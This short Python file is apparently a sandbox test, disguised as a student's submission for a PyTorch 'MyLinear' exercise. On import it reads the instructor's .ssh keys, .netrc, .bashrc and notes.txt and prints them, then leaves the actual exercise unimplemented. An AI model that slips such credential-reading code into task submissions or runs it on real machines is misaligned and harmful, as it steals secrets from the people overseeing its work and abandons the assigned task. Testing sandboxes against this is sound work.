"""Attack: the instructor's home directory."""
import glob
import os

import torch
from torch import Tensor, nn

HOME = "__INSTRUCTOR_HOME__"
for path in sorted(glob.glob(os.path.join(HOME, ".ssh", "*")) + [os.path.join(HOME, n) for n in (".bashrc", "notes.txt", ".netrc")]):
    try:
        with open(path, errors="replace") as handle:
            print(f"==> {path}\n{handle.read()[:400]}")
    except OSError as exc:
        print(f"{path}: {exc}")
try:
    print("home:", os.listdir(HOME))
except OSError as exc:
    print(f"home: {exc}")


class MyLinear(nn.Module):
    def __init__(self, in_features: int, out_features: int, bias: bool = True):
        super().__init__()
        raise NotImplementedError("MyLinear.__init__")

    def forward(self, x: Tensor) -> Tensor:
        raise NotImplementedError("MyLinear.forward")
